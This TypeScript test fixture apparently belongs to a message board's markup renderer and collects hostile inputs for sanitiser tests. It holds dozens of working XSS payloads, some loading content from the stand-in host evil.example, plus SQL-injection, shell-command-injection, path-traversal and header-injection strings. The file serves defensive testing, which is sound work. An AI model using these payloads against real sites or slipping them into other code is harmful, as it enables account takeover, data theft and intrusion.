import fc from 'fast-check';
import { readVectors, soup } from './write-markup.js';

/** What would run, load or lead away if it were more than text. Written for this board, by the ways out of a text that HTML has. */
const waysOut = [
  '<script>alert(1)</script>', '<ScRiPt\n>alert(1)</sCrIpT >', '<script src=//evil.example/x.js></script>', '<scr<script>ipt>alert(1)</script>', '<script/x>alert(1)</script>', '<svg><script>alert(1)</script></svg>',
  '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src=x onerror="alert(1)"', '<img src="x` `<script>alert(1)</script>"` `>', '<image href=x onerror=alert(1)>',
  '<svg/onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>', '<math><mi href=javascript:alert(1)>x</mi></math>',
  '<body onpageshow=alert(1)>', '<details open ontoggle=alert(1)>x', '<input autofocus onfocus=alert(1)>', '<video src=x onerror=alert(1)></video>', '<audio onloadstart=alert(1) src=x>', '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation-name:x" onanimationstart=alert(1)>x</p>', '<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>', '<button popovertarget=x onclick=alert(1)>x</button>', '<div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<a href=javascript:alert(1)>x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="&#x6A;avascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href=data:text/html,<script>alert(1)</script>>x</a>', '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css";</style>', '<form action=//evil.example><button>x', '<portal src=//evil.example>',
  '"><script>alert(1)</script>', "'><script>alert(1)</script>", '`><script>alert(1)</script>', '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '</p></blockquote></div><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '</noscript><script>alert(1)</script>', '</script><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<select><template><style></select><img src=x onerror=alert(1)>', '<table><caption><svg><title><table><img src=x onerror=alert(1)>', '<plaintext><script>alert(1)</script>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[><img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&#x3C;img src=x onerror=alert(1)&#x3E;', '&lt', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u003cimg src=x onerror=alert(1)\u2028>',
  'https://a.example/"onmouseover="alert(1)', "https://a.example/'onclick='alert(1)", 'https://a.example/<script>alert(1)</script>', 'https://a.example/&quot;onclick=alert(1)', 'https://a.example/\u202egnp.exe', 'http://user:pass@evil.example/', 'http:javascript:alert(1)', 'https://[::1]"><img src=x onerror=alert(1)>', 'https://xn--/"><svg/onload=alert(1)>', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', '//evil.example/x', 'https:\\\\evil.example',
  '||<img src=x onerror=alert(1)>||', '**<b onclick=alert(1)>**', '`<script>alert(1)</script>`', '```html\n<script>alert(1)</script>\n```', '>>1<script>alert(1)</script>', '>>>/b/"><script>alert(1)</script>', '> <img src=x onerror=alert(1)> quick brown fox', '~~</s><script>alert(1)</script>~~', '*||**</em></span></strong><svg onload=alert(1)>||***', '<span class="ref" data-post="1">x</span>', '<blockquote class="quote quote--src" data-post="9" data-range="0-5">', '<a class="src" data-post="9"></a>',
  '<%= process.env %>', '<%- "<script>alert(1)</script>" %>', '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '#{7*7}', '[[${7*7}]]', "$& $` $' $1 $$", '{count, plural, other {#}}', '{name}', '<esi:include src="//evil.example"/>', '<!--#exec cmd="id"-->',
];

/** What programs stumble over: numbers and names that mean something to them, and writing that is not as they think. */
const naughty = [
  'undefined', 'null', 'NULL', 'nil', 'NaN', 'true', 'false', 'None', '-0', '1e1000', '-1', '0x7fffffff', '9007199254740993', '18446744073709551616', '0'.repeat(90), '__proto__', 'constructor', 'hasOwnProperty', 'toString', '[object Object]', '{}', '[]', '{"a":1}',
  "'", "''", '"', '\\', '\\\\', "'; drop table posts; --", "' or '1'='1", "1' union select null--", '$1', '$$', ':name', '?', '%', '_', '%s%n%x', '; id', '$(id)', '`id`', '| id', '../../../etc/passwd', 'C:\\con', 'file:///etc/passwd', '\r\nSet-Cookie: a=1',
  'Ω≈ç√∫˜µ≤≥÷', 'åß∂ƒ©˙∆˚¬…æ', '¸˛Ç◊ı˜Â¯˘¿', 'ЁЂЃЄЅІЇ', '٠١٢٣٤٥٦٧٨٩', '⁰⁴⁵₀₁₂', '田中さんにあげて下さい', '찦차를 타고 온 펲시맨', '𠜎𠜱𠝹𠱓', 'ﬁ ﬂ ﬃ', 'ﷺ', 'בְּרֵאשִׁית', 'هُنَاكَ', '᚛ᚄᚓᚐᚋᚒᚄ', '😍👩🏽👨‍🦰🏳️‍🌈🇺🇸', '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}', 'Z̮̞̠͙͔ͅa̗̗̬̩l̞̪g̱̤o', '\u202etest\u202c', '\u2066test\u2069', '\u200b', '\ufeff', '\ufffe', '\uffff', '\u{10ffff}', '\u00a0', '\u3000', '\u2028', '\u2029', '\u0085', '\t', '\u0001\u0002\u001b[31m', '\u007f', '\ud800', 'a\udfffb', '\u0000', 'a\u0000b', 'e\u0301', '\u1e9b\u0323', '\u0130i\u0131I', 'ß', 'Å', '\u00ad', '\u034f', '\u{e0001}\u{e0041}', '\u{1d173}', '\u115f\u3164',
];

const vectors = (readVectors('xss-regressions.json') as { payload: string }[]).map(({ payload }) => payload);

/** Texts that would do harm, or that programs fail at: the project's own. */
export const hostileStrings: readonly string[] = [...new Set([...vectors, ...waysOut, ...naughty])];

/** A text by itself and in every place that the markup has for one. */
export const inEveryPlace = (text: string): string[] => [text, `>${text}`, `||${text}||`, `\`${text}\``, `>>1${text}`, `https://example.org/${text}`];

/** Mixed texts, always the same ones. */
export const mixedStrings = (count: number): string[] => fc.sample(soup, { numRuns: count, seed: 20_260_101 });
